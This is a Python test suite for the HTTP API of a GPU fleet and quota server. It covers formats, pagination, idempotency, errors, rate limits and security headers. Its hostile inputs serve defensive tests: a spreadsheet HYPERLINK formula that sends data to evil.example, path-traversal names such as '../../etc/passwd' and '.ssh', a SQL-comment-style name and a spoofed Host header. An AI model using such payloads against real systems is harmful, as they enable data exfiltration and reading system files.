"""How the API behaves whatever is asked: forms, tags, pages of a list, the past, changes, keys, errors, limits."""

from __future__ import annotations

import base64
import csv
import io
import json
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any
from urllib.parse import quote

import pytest
import yaml

from plimsoll.rooms import open_keeper
from plimsoll.server import api as api_module
from plimsoll.server.guard import Buckets
from plimsoll.server.routes import ROUTES
from tests.support.served import TEAM, Served, make_people, serving, small_book


@pytest.fixture
def own(tmp_path: Any) -> Iterator[Served]:
    """A server of the test's own."""
    dsn = small_book(tmp_path)
    with serving(dsn, make_people(dsn)) as server:
        yield server


# Reading.


def test_one_answer_has_every_form(served: Served) -> None:
    nodes = served.api("/nodes").document["nodes"]
    assert len(nodes) == 16
    rows = list(csv.DictReader(io.StringIO(served.api("/nodes?format=csv").body.decode())))
    assert [row["node"] for row in rows] == [node["node"] for node in nodes]
    assert yaml.safe_load(served.api("/nodes", Accept="application/yaml").body)["nodes"] == nodes
    whole = served.api("/nodes", Accept="application/vnd.plimsoll.answer+json").document
    assert whole["document"]["nodes"] == nodes
    assert len(whole["tables"][0]["rows"]) == 16
    assert served.api("/nodes?format=xml").error["code"] == "bad_format"
    assert served.api("/health?format=csv").headers["content-type"].startswith("text/csv")


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ok")'


def test_a_table_never_acts_in_a_sheet(own: Served) -> None:
    asked = own.post("/requests", {"team": TEAM, "gpus": "8", "sku": "H200"}).document["request"]["id"]
    assert own.post(f"/requests/{asked}/withdraw", {"reason": FORMULA}, who="member").status == 200
    rows = list(csv.reader(io.StringIO(own.api("/requests?all=true&format=csv").body.decode())))
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith("=")]
    assert FORMULA in json.dumps(own.api("/requests?all=true").document).replace("\\", ""), "elsewhere it is as written"


def test_a_tag_saves_the_way(served: Served) -> None:
    first = served.api("/quota")
    again = served.api("/quota", If_None_Match=first.headers["etag"])
    assert (first.status, again.status, again.body) == (200, 304, b"")
    other = served.api("/quota?team=" + TEAM, If_None_Match=first.headers["etag"])
    assert other.status == 200


def test_filters_are_those_of_the_command_line(served: Served) -> None:
    path = f"/nodes?filter={quote('cluster=lion')}&filter={quote('service=in_service')}"
    assert {node["cluster"] for node in served.api(path).document["nodes"]} == {"lion"}
    reply = served.api(f"/nodes?filter={quote('clutser=lion')}")
    assert (reply.status, reply.error["code"]) == (400, "unknown_field")


def test_pages_of_a_list_are_all_of_one_revision(own: Served) -> None:
    seen: list[str] = []
    path = "/nodes?limit=5"
    for page in range(4):
        reply = own.api(path)
        seen += [node["node"] for node in reply.document["nodes"]]
        link = reply.headers.get("link", "")
        if page == 0:  # what happens meanwhile is not seen in the middle of a list
            own.post("/health/set", {"words": ["t12", "repair"], "reason": "it smokes"})
            path = link[1 : link.index(">")].removeprefix("/api/v1")
            continue
        if not link:
            break
        path = link[1 : link.index(">")].removeprefix("/api/v1")
    assert (len(seen), len(set(seen))) == (16, 16)
    assert 'rel="next"' not in link
    assert own.api("/nodes?cursor=1.x").error["code"] == "bad_cursor"


NAMES = ("post/train", "a b", "50%41", "équipe", "команда/a?b", "<b>x")


@pytest.mark.parametrize("name", NAMES)
def test_the_next_page_of_something_with_an_odd_name_is_found(own: Served, name: str) -> None:
    assert own.post("/teams/pretraining/rename", {"new": name, "reason": "x"}).status == 200
    asked = f"/teams/{quote(name, safe='')}/changes?limit=1&at_least={own.house.api.head}"
    seen = 0
    while asked:
        reply = own.api(asked)
        assert reply.status == 200
        seen += len(reply.document["changes"])
        link = reply.headers.get("link", "")
        asked = link[1 : link.index(">")].removeprefix("/api/v1") if link else ""
    assert seen == len(own.api(f"/teams/{quote(name, safe='')}/changes").document["changes"]) > 1


def test_whoever_must_sign_in_first_comes_to_what_they_asked_for(served: Served) -> None:
    reply = served.ask("/teams/post%2Ftrain?limit=5", Accept="text/html")
    assert (reply.status, reply.headers["location"]) == (303, "/signin?next=%2Fteams%2Fpost%252Ftrain%3Flimit%3D5")


def test_the_past_is_answered_for(own: Served) -> None:
    before = own.api("/fleet")
    own.post("/health/set", {"words": ["t1", "repair"], "reason": "it smokes"})
    after = own.api(f"/fleet?at_least={own.house.api.head}")
    past = own.api(f"/fleet?as_of={before.document['revision']}")
    assert after.document["totals"]["nodes_in_service"] == before.document["totals"]["nodes_in_service"] - 1
    assert past.document["totals"] == before.document["totals"]
    reply = own.api("/fleet?as_of=99999")
    assert (reply.status, reply.error["code"]) == (404, "no_such_revision")


def test_whoever_changed_something_sees_it(own: Served) -> None:
    """Answers may be given again for a moment; never to somebody who names a newer revision."""
    own.api("/incidents")
    made = own.post("/incidents", {"title": "smoke", "id": "i-9"})
    revision = made.headers["plimsoll-revision"]
    assert "i-9" in own.api("/incidents").body.decode(), "its own change is seen at once"
    assert "i-9" in json.dumps(own.api(f"/incidents?at_least={revision}", who="viewer").document)


def test_many_who_ask_the_same_are_answered_once(own: Served) -> None:
    made = own.house.shelf.counts.misses
    with ThreadPoolExecutor(8) as pool:
        replies = list(pool.map(lambda _: own.api("/quota"), range(24)))
    assert {reply.status for reply in replies} == {200}
    assert len({reply.body for reply in replies}) == 1
    assert own.house.shelf.counts.misses - made == 1


def test_what_is_about_oneself_is_never_told_to_another(served: Served) -> None:
    told = {who: served.api("/whoami", who=who).body for who in ("viewer", "operator", "viewer", "partner")}
    assert all(f"{who}@example.org".encode() in body for who, body in told.items())


def test_a_name_may_hold_anything(served: Served) -> None:
    for name in ("a/b", "../..", "ü", "a b", "?#", "%2F", "'; --"):
        reply = served.api(f"/workloads/{quote(name, safe='')}")
        assert (reply.status, reply.error["code"]) == (404, "no_such_workload"), name
        assert name in reply.error["message"]


# Changing.


def test_a_dry_run_decides_and_changes_nothing(own: Served) -> None:
    before = own.house.api.head
    body = {"team": TEAM, "gpus": "8", "sku": "H200", "dry_run": True}
    reply = own.post("/requests", body, who="member")
    assert reply.status == 200
    assert reply.document["dry_run"] is True
    assert own.api("/audit/head").document["revision"] == before


def test_a_change_is_by_whoever_sent_it(own: Served) -> None:
    own.post("/requests", {"team": TEAM, "gpus": "8", "sku": "H200", "reason": "a run"}, who="member")
    event = own.api("/events?limit=1").document["events"][0]
    assert (event["actor"], event["reason"]) == ("member@example.org", "a run")


def test_the_same_key_is_the_same_change(own: Served) -> None:
    body = {"title": "smoke"}
    first = own.post("/incidents", body, Idempotency_Key="k-1")
    head = own.house.api.head
    again = own.post("/incidents", body, Idempotency_Key="k-1")
    assert (again.status, again.body) == (first.status, first.body)
    assert again.headers["idempotency-replayed"] == "true"
    assert own.api("/audit/head?at_least=1").document["revision"] == head
    other = own.post("/incidents", {"title": "fire"}, Idempotency_Key="k-1")
    assert (other.status, other.error["code"]) == (422, "idempotency_key_reused")
    elsewhere = own.post("/incidents", {"title": "fire"}, who="operator", Idempotency_Key="k-1")
    assert elsewhere.status == 200, "keys of two people are two keys"


def test_a_secret_is_told_once_and_kept_nowhere(own: Served) -> None:
    body = {"owner": "viewer@example.org", "for": "1d"}
    first = own.post("/access/tokens", body, Idempotency_Key="k-7")
    again = own.post("/access/tokens", body, Idempotency_Key="k-7")
    secret = first.document["secret"]
    assert (first.status, again.status) == (200, 200)
    assert secret.encode() not in again.body
    with open_keeper(own.house.settings.dsn) as keeper:
        assert not any(
            secret in paper.body for kind in ("receipt", "token") for paper in keeper.ledger.store.papers(kind)
        )


def test_a_refused_change_frees_its_key(own: Served) -> None:
    refused = own.post("/incidents/nobody-knows-it/note", {"note": "smoke"}, Idempotency_Key="k-2")
    assert refused.status == 404
    made = own.post("/incidents", {"title": "smoke", "id": "smoke"}, Idempotency_Key="k-2")
    assert (made.status, "idempotency-replayed" in made.headers) == (200, False), made
    assert own.api(f"/incidents/smoke?at_least={own.house.api.head}").status == 200


def test_the_same_key_at_once_happens_once(own: Served) -> None:
    with ThreadPoolExecutor(8) as pool:
        replies = list(pool.map(lambda _: own.post("/incidents", {"title": "one"}, Idempotency_Key="k-3"), range(16)))
    assert {reply.status for reply in replies} <= {200, 409}
    assert len(own.api(f"/incidents?at_least={own.house.api.head}").document) == 1


@pytest.mark.parametrize("key", ["", "x" * 201, "a\tb", "ümlaut"])
def test_a_key_that_is_none_is_refused(served: Served, key: str) -> None:
    reply = served.post("/quota/settle", {}, Idempotency_Key=key.encode().decode("latin-1"))
    assert (reply.status, reply.error["code"]) == (400, "bad_idempotency_key")


def test_files_are_sent_as_texts(own: Served) -> None:
    parts = "  - {name: a, kind: gang, gpus: 8, tier: mid, rank: 1}"
    text = f"workload: sent\nteam: {TEAM}\nwhere: {{sku: H200}}\nparts:\n{parts}\n"
    reply = own.post("/workloads", {"files": [text]}, who="member")
    assert reply.status == 200, reply
    assert own.api("/workloads/sent").status == 200
    made = own.api("/fleet/export").document["files"]
    assert set(made) >= {"clusters.csv", "nodes.csv", "quotas.csv"}
    back = own.post("/fleet/import", {"files": made, "dry_run": True})
    assert back.document["counts"]["nodes"]["same"] == 16
    sheet = base64.b64encode(b"cluster,region\n").decode()
    assert own.post("/clusters/import", {"file": sheet, "dry_run": True}).status in (200, 400, 422)


@pytest.mark.parametrize("path", [route.path for route in ROUTES if route.sent and route.method == "POST"])
def test_no_place_of_the_machine_is_told(served: Served, path: str) -> None:
    route = next(each for each in ROUTES if each.path == path and each.method == "POST")
    sent: dict[str, Any] = {"files": ["]["]} if "files" in route.sent else {"file": "][", "plan_file": "]["}
    sent = {"files": {"clusters.csv": "x", "nodes.csv": "y"}} if "import" in path and "fleet" in path else sent
    for body in (sent, {key: value for key, value in sent.items() if key != "plan_file"}):
        reply = served.post(path.replace("{name}", "x"), body)
        assert b"/tmp" not in reply.body, reply.body
        assert reply.status != 500


HOSTILE_FILES = {
    "a path": {"files": {"../../etc/passwd": "x"}},
    "a folder in a folder": {"files": {"a/b.csv": "x"}},
    "a hidden file": {"files": {".ssh": "x"}},
    "no files": {"files": {}},
    "a text for a folder": {"files": "clusters.csv"},
    "a number for a file's text": {"files": {"clusters.csv": 7}},
    "too many files": {"files": {f"f{number}.csv": "" for number in range(51)}},
}


@pytest.mark.parametrize("case", HOSTILE_FILES)
def test_a_folder_holds_plain_files_only(served: Served, case: str) -> None:
    reply = served.post("/fleet/import", HOSTILE_FILES[case])
    assert (reply.status, reply.error["code"]) == (400, "bad_parameter")


@pytest.mark.parametrize("word", ["/etc/passwd", "../policy.yaml", "plimsoll.db", "policy.yml", "."])
def test_no_file_of_the_machine_can_be_named(served: Served, word: str) -> None:
    for path in (f"/quota/plan?policy={quote(word, safe='')}", f"/campaigns/compare?left={quote(word)}&right=x"):
        reply = served.api(path)
        assert reply.status in (400, 404, 422), reply
        assert "root:" not in reply.body.decode()
    assert served.post("/health/policy/check", {"file": word}).status in (400, 422)


# What is wrong.

WRONG = {
    "nothing there": ("GET", "/nope", None, {}, 404, "no_such_path"),
    "another method": ("POST", "/fleet", {}, {}, 405, "method_not_allowed"),
    "a parameter that is not": ("GET", "/fleet?bye=area", None, {}, 400, "unknown_parameter"),
    "a parameter twice": ("GET", "/fleet?by=area&by=sku", None, {}, 400, "bad_parameter"),
    "a word for a number": ("GET", "/events?limit=many", None, {}, 400, "bad_parameter"),
    "too much of a number": ("GET", "/events?limit=1001", None, {}, 400, "bad_parameter"),
    "a word that is none of them": ("GET", "/fleet?by=colour", None, {}, 400, "bad_parameter"),
    "something needed is missing": ("POST", "/requests", {"team": TEAM}, {}, 400, "missing_parameter"),
    "values in the address": ("POST", "/quota/settle?dry_run=true", {}, {}, 400, "unknown_parameter"),
    "no JSON": ("POST", "/quota/settle", b"{", {}, 400, "bad_json"),
    "a list": ("POST", "/quota/settle", b"[]", {}, 400, "bad_json"),
    "deep as a well": ("POST", "/quota/settle", b"[" * 100_000, {}, 400, "bad_json"),
    "a form": ("POST", "/quota/settle", b"a=b", {"Content_Type": "application/x-www-form-urlencoded"}, 415, "not_json"),
    "a name that does not exist": ("GET", "/workloads/nobody", None, {}, 404, "no_such_workload"),
    "a token that is wrong": ("GET", "/fleet", None, {"Authorization": "Bearer plim_x_y"}, 401, "bad_token"),
    "no token at all": ("GET", "/fleet", None, {"Authorization": "Basic eDp5"}, 401, "bad_authorization"),
    "a null byte": ("GET", "/workloads/a%00b", None, {}, 400, "bad_parameter"),
}  # fmt: skip


@pytest.mark.parametrize("case", WRONG)
def test_what_is_wrong_is_told_in_one_shape(served: Served, case: str) -> None:
    method, path, send, headers, want_status, want_code = WRONG[case]
    reply = served.api(path, method=method, send=send, **headers)
    assert (reply.status, reply.error["code"]) == (want_status, want_code)
    assert set(reply.error) == {"code", "message", "next_step", "fields"}
    assert reply.error["message"]
    assert reply.headers["x-request-id"]
    if want_status == 405:
        assert reply.headers["allow"] == "GET, HEAD"


def test_a_body_that_is_too_big_is_not_read(served: Served) -> None:
    reply = served.post("/quota/settle", b" " * (api_module.BODY_BYTES_MAX + 1))
    assert (reply.status, reply.error["code"]) == (413, "body_too_big")


def test_one_who_asks_too_often_waits(tmp_path: Any) -> None:
    dsn = small_book(tmp_path)
    with serving(dsn, make_people(dsn), requests_per_second=5.0) as server:
        replies = [server.api("/fleet", who="viewer") for _ in range(14)]
        refused = [reply for reply in replies if reply.status == 429]
        assert 2 <= len(refused) <= 4
        assert int(refused[0].headers["retry-after"]) >= 1
        assert server.api("/fleet", who="member").status == 200, "others are not held up"


def test_a_mistake_of_ours_shows_nothing_of_the_inside(own: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object) -> None:
        raise KeyError("a secret path")

    operation = next(each for each in own.house.api.operations if each.route.path == "/audit/head")
    monkeypatch.setattr(operation, "call", broken)
    reply = own.api("/audit/head")
    assert (reply.status, reply.error["code"]) == (500, "unexpected")
    assert b"secret" not in reply.body
    assert reply.error["fields"]["request_id"] == reply.headers["x-request-id"]
    assert own.api("/fleet").status == 200


# How it is guarded.


def test_every_answer_has_its_guards(served: Served) -> None:
    for path in ("/", "/api/v1/fleet", "/healthz", "/nope", "/static/app.css"):
        headers = served.ask(path, who="viewer", Accept="text/html").headers
        assert "default-src 'none'" in headers["content-security-policy"]
        assert "unsafe" not in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"


def test_a_name_of_somebody_else_that_leads_here_is_not_answered(served: Served) -> None:
    for path in ("/", "/api/v1/whoami", "/static/app.css"):
        assert served.ask(path, Host="evil.example").status == 404
        assert served.ask(path, Host=f"localhost:{served.house.settings.port}", Accept="text/html").status in (200, 303)
    assert served.ask("/healthz", Host="10.0.0.5:8077").status == 200, "a probe asks an address"


def test_a_revoked_token_ends_soon(own: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    tokens = own.api("/access/tokens").document
    listed = tokens if isinstance(tokens, list) else tokens["tokens"]
    mine = next(each for each in listed if each["owner"] == "viewer@example.org")
    assert own.api("/fleet", who="viewer").status == 200
    assert own.post(f"/access/tokens/{mine['token'] if 'token' in mine else mine['id']}/revoke").status == 200
    assert own.api("/fleet", who="viewer").status == 401


def test_who_guesses_tokens_waits(own: Served) -> None:
    own.house.guard.unknown = Buckets(0.001, burst_seconds=5_000)  # five, and the next one after a quarter of an hour
    tokens = [f"plim_{number:012d}_x" for number in range(8)]
    statuses = [own.ask("/api/v1/fleet", Authorization=f"Bearer {token}").status for token in tokens]
    assert statuses == [401] * 5 + [429] * 3


def test_health_and_readiness_are_open(served: Served) -> None:
    assert served.ask("/healthz").document == {"status": "ok"}
    ready = served.ask("/readyz")
    assert (ready.status, ready.document["status"]) == (200, "ready")


def test_signals_come_in(own: Served) -> None:
    lines = b'{"node": "t3", "kind": "xid", "name": "79"}\n{"node": "nobody", "kind": "xid", "name": "79"}\n'
    reply = own.ask("/api/v1/signals?feed=dcgm", who="operator", method="POST", send=lines)
    assert reply.status == 200
    assert (reply.document["feed"], reply.document["taken"]) == ("dcgm", 1)
    assert own.api(f"/nodes/t3?at_least={own.house.api.head}").document["facts"]["health"] == "unhealthy"
    began = time.monotonic()
    assert own.ask("/api/v1/signals", who="operator", method="POST", send=b"nonsense").status == 400
    assert time.monotonic() - began < 5


PICKED = {
    "the first, without a word": ("/quota/plan?format=csv", "stage,pools,what_it_takes"),
    "by its name": ("/quota/plan?format=csv&table=teams", "team,cut,unscheduled,idle,running,"),
    "another of the same answer": ("/quota/plan?format=csv&table=quotas", "team,cluster,sku,assigned,"),
    "of a list": ("/quota?format=csv&table=teams", "team,clusters,assigned,guaranteed,"),
    "by its place, where it has no name": ("/incidents?format=csv&table=1", "incident,kind,"),
}


@pytest.mark.parametrize("case", PICKED)
def test_csv_is_of_the_table_that_is_named(served: Served, case: str) -> None:
    path, want = PICKED[case]
    reply = served.api(path)
    assert (reply.status, reply.headers["content-type"].split(";")[0]) == (200, "text/csv")
    assert reply.body.decode().startswith(want)


NO_TABLES = {
    "a name that is none": (
        "/quota/plan?format=csv&table=team",
        "no_such_table",
        ["stages", "pools", "teams", "quotas"],
    ),
    "an answer without tables": ("/audit/head?format=csv&table=1", "no_such_table", []),
    "a place of one that has a name": ("/quota/plan?format=csv&table=1", "no_such_table", ["stages", "pools"]),
    "where no CSV is asked for": ("/quota/plan?table=teams", "bad_parameter", []),
    "where nothing is read": ("", "unknown_parameter", []),
}


@pytest.mark.parametrize("case", NO_TABLES)
def test_a_table_that_is_not_there_names_those_that_are(served: Served, case: str) -> None:
    path, want_code, want_names = NO_TABLES[case]
    reply = served.api(path) if path else served.post("/quota/control?format=csv&table=teams", {"dry_run": True})
    assert (reply.status, reply.error["code"]) == (400, want_code)
    assert all(name in reply.error["next_step"] for name in want_names)
    if want_code == "no_such_table":
        assert set(want_names) <= set(reply.error["fields"]["tables"])


def test_csv_has_every_row_that_a_terminal_leaves_out(served: Served) -> None:
    """Of each table of an answer: as many rows as the answer has, also of one that people are shown a part of."""
    for path in ("/quota/plan", "/quota", "/health", "/health/levels"):
        for place, table in enumerate(served.api(f"{path}?format=answer").document["tables"], 1):
            name = table["name"] or str(place)
            rows = served.api(f"{path}?format=csv&table={name}").body.decode().splitlines()
            assert len(rows) == 1 + len(table["rows"]), (path, name)
